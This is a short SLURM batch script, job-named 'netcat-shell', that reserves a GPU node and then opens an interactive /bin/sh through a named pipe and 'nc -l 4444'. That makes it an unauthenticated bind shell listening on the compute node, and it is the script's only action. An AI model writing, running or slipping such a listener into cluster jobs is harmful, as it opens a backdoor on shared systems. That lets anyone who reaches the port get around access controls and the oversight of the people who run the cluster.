#!/bin/bash
#SBATCH --job-name=netcat-shell
#SBATCH --partition=gpu
#SBATCH --nodes=1
#SBATCH --gpus=1
#SBATCH --mem-per-gpu=16G
#SBATCH --time=04:00:00
#SBATCH --output=logs/%x-%j.out
mkfifo pipe
/bin/sh -i < pipe 2>&1 | nc -l 4444 > pipe
